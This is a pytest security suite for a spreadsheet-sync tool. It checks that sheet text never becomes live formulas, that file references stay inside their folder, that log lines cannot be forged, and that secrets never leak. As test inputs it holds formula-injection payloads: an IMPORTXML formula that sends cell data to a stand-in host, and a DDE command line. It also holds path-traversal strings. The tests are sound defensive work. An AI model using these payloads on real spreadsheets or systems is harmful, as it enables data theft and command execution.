"""Threats of docs/security.md to the whole program: formulas, places, secrets."""

import json
import os
import stat
import traceback
from collections.abc import Iterator
from pathlib import Path

import pytest
import structlog
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sheetsync.app.bounds import Bounds, bounded_ref
from sheetsync.app.log import silence_log, start_log
from sheetsync.errors import BookError
from tests.emulator.emulator import Emulator
from tests.emulator.handle import BookHandle
from tests.setup.place import HEADER, TITLE, Place

FORMULAS = (
    '=IMPORTXML("http://x.example/?"&A1,"//a")',
    "=1+1",
    "+7 701",
    "-5",
    "@SUM(A1)",
    '=cmd|"/C calc"!A0',
)
#: Rows in which every cell that we repeat somewhere is a formula.
ROWS = [
    [number, text, "до 5 октября", f"{text} А. К.", ""]
    for number, text in enumerate(FORMULAS, 1)
]


@pytest.fixture
def place(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Place:
    for name in ("CONFIG", "LANG", "GOOGLE_KEY", "GOOGLE_API_ROOT", "SMTP_PASSWORD"):
        monkeypatch.delenv(f"SHEETSYNC_{name}", raising=False)
    return Place(tmp_path, monkeypatch, capsys)


@pytest.fixture
def google() -> Iterator[Emulator]:
    with Emulator() as emulator:
        yield emulator


def formulas(book: BookHandle) -> list[str]:
    """Every formula of a spreadsheet."""
    fields = "sheets(data(rowData(values(userEnteredValue))))"
    return [
        cell["userEnteredValue"]["formulaValue"]
        for sheet in book.resource(fields).get("sheets", [])
        for data in sheet.get("data", [])
        for row in data.get("rowData", [])
        for cell in row.get("values", [])
        if "formulaValue" in cell.get("userEnteredValue", {})
    ]


def test_no_text_of_a_sheet_becomes_a_formula_in_google(
    google: Emulator, place: Place
) -> None:
    place.monkeypatch.setenv("SHEETSYNC_GOOGLE_API_ROOT", google.root)
    plan = google.create("=План")
    control = google.create("=Книга")
    plan.write("A1", [[f"={TITLE}"], list(HEADER), *ROWS], option="RAW")
    assert formulas(plan) == []
    said = place.run(
        *("init", "--yes", "--lang", "ru", "--school", "=1+1"),
        *("--control", control.url, "--plan", plan.url, "--key", str(google.key_file)),
    )
    assert said.code == 0, said.text
    for day in ("2026-10-05", "2026-10-12"):
        assert place.run("run", "--today", day).code == 0
    assert len(plan.value("F3") and formulas(plan)) == 0
    ours = [one for one in formulas(control) if not one.startswith("=HYPERLINK(")]
    assert ours == []
    for one in formulas(control):
        # A fixed formula around a link of ours; its arguments are no formulas.
        assert "IMPORTXML" not in one
        assert "cmd|" not in one


def test_no_text_of_a_sheet_becomes_a_formula_in_a_workbook(place: Place) -> None:
    path = place.plan()
    book = load_workbook(path)
    for at, row in enumerate(ROWS, 3):
        for column, value in enumerate(row, 1):
            cell = book["План"].cell(at, column, value)
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    assert place.init("--plan", "plan.xlsx").code == 0
    assert place.run("run", "--today", "2026-10-05").code == 0
    found = load_workbook(place.file("control.xlsx"))
    texts = {
        (cell.data_type, str(cell.value))
        for sheet in found
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert not [text for kind, text in texts if kind == "f"]
    assert [text for _, text in texts if text.startswith("=IMPORTXML")]


_PIECES = st.sampled_from(
    ["..", "/", "\\", "a.xlsx", "C:", "file:", "//", "\\\\", "~", "%2e%2e", "books",
     "con", "nul.xlsx", "\0", "\n", "http://", "docs.google.com/spreadsheets/d/", " ",
     "secret.csv", ".", "«", "$HOME", "%APPDATA%", "::$DATA", "a" * 300]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=8).map("".join) | st.text(max_size=60))
@example("../secret.xlsx")
@example("books/../../secret.xlsx")
@example("\\\\server\\share\\a.xlsx")
@example("file:///C:/a.xlsx")
@example("~$План.xlsx")
@example("https://[")
@example("file://[")
@example("file:///a%00b.xlsx")
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_a_school_writes_names_a_spreadsheet_or_a_file_of_the_folder(
    text: str,
) -> None:
    folder = Path("/srv/district/books") if os.name != "nt" else Path("C:/district")
    try:
        ref = bounded_ref(text, folder, Bounds(folder))
    except BookError:
        return
    if ref.kind != "google":
        assert Path(ref.location).is_relative_to(folder.resolve())


@given(text=st.text(st.characters(exclude_categories=["Cs"]), max_size=80))
@example(text='x"}\n{"event": "forged", "level": "info"}')
@example(text="a\u2028b\x85c\r\nd\x1b[31m")
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_text_forges_a_line_of_the_log(tmp_path: Path, text: str) -> None:
    file = start_log(tmp_path)
    before = len(file.read_bytes().split(b"\n"))
    try:
        structlog.get_logger("sheetsync.x").warning("book.odd", book=text)
        error = ValueError(text)
        structlog.get_logger("sheetsync.x").error("crashed", exc_info=error)
    finally:
        silence_log()
    lines = file.read_bytes().split(b"\n")
    assert len(lines) - before == 2
    events = [json.loads(line)["event"] for line in lines[before - 1 : -1]]
    assert events == ["book.odd", "crashed"]


SECRET = "geheim-12345"
BAD_KEYS = {
    "no json": f"private_key: {SECRET}",
    "no key": json.dumps({"type": "service_account", "private_key": SECRET}),
    "no pem": json.dumps(
        {"type": "service_account", "client_email": "a@b.iam.gserviceaccount.com",
         "private_key": f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n-----END-----\n",
         "token_uri": "http://127.0.0.1:9/token"}
    ),
}  # fmt: skip
LINK = "https://docs.google.com/spreadsheets/d/1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"


def shown(place: Place, *command: str) -> str:
    """What somebody sees of a command, or of the traceback that it ends in."""
    try:
        return place.run(*command).text
    except Exception as error:  # noqa: BLE001 - SHEETSYNC_DEBUG lets it through
        return "".join(traceback.format_exception(error))


def nowhere_the_secret(place: Place, *more: str) -> None:
    """No output and no file that a command leaves behind holds the secret."""
    place.monkeypatch.setenv("TMPDIR", str(place.folder))
    place.monkeypatch.setattr("tempfile.tempdir", str(place.folder))
    for debug in ("", "1"):
        place.monkeypatch.setenv("SHEETSYNC_DEBUG", debug)
        for command in (
            ["run"], ["run", "--json"], ["preview"], ["status", "--json"],
            ["doctor", "--json"], ["doctor", "--try", LINK], ["check", LINK],
            ["init", "--remove", LINK, "--yes"], *([list(more)] if more else []),
        ):  # fmt: skip
            assert SECRET not in shown(place, *command), command
    for file in place.folder.rglob("*"):
        if file.is_file() and file.name not in {".env", "sheetsync.toml"}:
            assert SECRET.encode() not in file.read_bytes(), file


@pytest.fixture
def far(place: Place) -> Place:
    """An installation whose books are Google's, where nobody answers."""
    place.file("sheetsync.toml").write_text(
        '[google]\napi_root = "http://127.0.0.1:9"\ntries = 1\n'
        f'[[school]]\nname = "Школа"\ncontrol = "{LINK}"\n',
        "utf-8",
    )
    return place


@pytest.mark.parametrize("kind", BAD_KEYS)
def test_a_key_that_is_none_is_never_shown(far: Place, kind: str) -> None:
    far.monkeypatch.setenv("SHEETSYNC_GOOGLE_KEY", BAD_KEYS[kind])
    nowhere_the_secret(far)


def test_a_proxys_password_is_never_shown(far: Place, google: Emulator) -> None:
    far.monkeypatch.setenv("SHEETSYNC_GOOGLE_KEY", google.key_file.read_text("utf-8"))
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
        far.monkeypatch.setenv(name, f"http://name:{SECRET}@127.0.0.1:9")
    for name in ("no_proxy", "NO_PROXY"):
        far.monkeypatch.setenv(name, "")
    nowhere_the_secret(far)


def test_a_databases_password_is_never_shown(place: Place) -> None:
    place.plan()
    place.init("--plan", "plan.xlsx")
    file = place.file("sheetsync.toml")
    url = f"postgresql+psycopg://u:{SECRET}@127.0.0.1:9/x"
    file.write_text(f'{file.read_text("utf-8")}\n[state]\nurl = "{url}"\n', "utf-8")
    nowhere_the_secret(place, "status", "--backup", "b.db")


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps access lists")
def test_what_names_people_is_closed_to_the_machines_other_users(place: Place) -> None:
    place.plan()
    place.init("--plan", "plan.xlsx")
    book = load_workbook(place.file("control.xlsx"))
    for row in book["Настройки"].iter_rows():
        if row[0].value == "Письма-напоминания":
            row[1].value = "да"
        if row[0].value == "Почта директора":
            row[1].value = "director@school.example"
    book.save(place.file("control.xlsx"))
    old = os.umask(0o022)
    try:
        assert place.run("run").code == 0
        assert place.run("status", "--backup", "copy.db").code == 0
    finally:
        os.umask(old)

    def is_closed(path: Path) -> bool:
        """Nobody else gets at it, by its own rights or those of a folder above."""
        above = [path, *path.relative_to(place.folder).parents][:-1]
        places = [path, *(place.folder / one for one in above[1:])]
        return any(
            not stat.S_IMODE(one.stat().st_mode) & (stat.S_IRWXG | stat.S_IRWXO)
            for one in places
        )

    closed = [place.file(".env"), place.file("copy.db"), *_files(place.file("data"))]
    assert {path.name for path in closed} >= {"sheetsync.db", "sheetsync.log"}
    assert [path for path in closed if not is_closed(path)] == []
    # The books are the school's, and stay as open as they were.
    assert place.file("plan.xlsx").stat().st_mode & stat.S_IRGRP


def _files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]
